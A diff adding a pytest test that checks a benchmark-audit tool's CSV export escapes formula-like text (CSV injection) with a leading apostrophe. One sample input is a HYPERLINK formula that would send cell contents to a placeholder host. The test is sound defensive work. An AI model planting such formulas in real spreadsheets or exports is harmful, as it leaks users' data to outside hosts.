@@ -151,6 +151,33 @@ def test_code_with_newlines_quotes_and_commas_reads_back(hostile_report):
     assert text.startswith("id,text,twin,")
 
 
+def test_text_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path):
+    """CSV injection: a benchmark file's question or id that starts like a formula, and a model that
+    writes it back, reach the CSV with an apostrophe before them; the JSON report keeps them."""
+    starts = ['=HYPERLINK("http://example.invalid/?"&A1,"Open")', "+{n}+{n}", "-{n} degrees", "@SUM(A1:A{n})"]
+    story = "Sam has {a} pens and buys {b} more, then gives {c} away. How many pens does Sam have now?"
+    rows = [
+        {
+            "id": f"{starts[n % 4][0]}id{n}",
+            "question": starts[n % 4].format(n=n) + " " + story.format(a=n + 12, b=n + 30, c=n + 5),
+        }
+        for n in range(24)
+    ]
+    questions = write_jsonl(tmp_path / "formulas.jsonl", rows)
+    report = quick_audit(f"fake:memorise={questions}", questions, tests=["completion", "min-k"])
+    _, csv_rows = read_rows(report)
+    assert len(csv_rows) == 24
+    for row, item in zip(csv_rows, report.items, strict=True):
+        assert item.text[0] in "=+-@" and item.id[0] in "=+-@"  # the report keeps the text as it was
+        assert row["text"] == "'" + item.text and row["id"] == "'" + item.id
+        assert row["twin"] == ("'" + item.twins[0] if item.twins[0][0] in "=+-@" else item.twins[0])
+        generated = item.tests["completion"].generated or ""
+        assert row["completion_generated"] == (
+            "'" + generated if generated[:1] in list("=+-@") else generated
+        )
+    assert any(row["min-k_score"].startswith("-") for row in csv_rows)  # numbers stay numbers
+
+
 def test_a_skipped_test_keeps_its_columns_empty(tmp_path: Path):
     # Every number sits in the first half, so completion has nothing to score; the fake clean model
     # follows no instructions, so guided is skipped after computing its overlaps.
